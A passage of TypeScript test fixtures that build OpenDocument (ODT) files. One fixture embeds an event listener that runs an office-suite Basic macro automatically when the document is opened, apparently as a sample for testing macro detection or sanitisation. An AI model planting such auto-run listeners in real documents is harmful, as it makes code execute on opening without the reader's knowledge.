      'Object 1/content.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content ${odfNamespaces}/>`,
    },
  });

/** An ODT that runs a macro of the office suite's own library when it is opened. */
export const odtWithEventListener = () =>
  odtWith({
    before:
      '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Tools.Debug.Main?language=Basic&amp;location=application" xlink:type="simple"/></office:event-listeners></office:scripts>',
  });
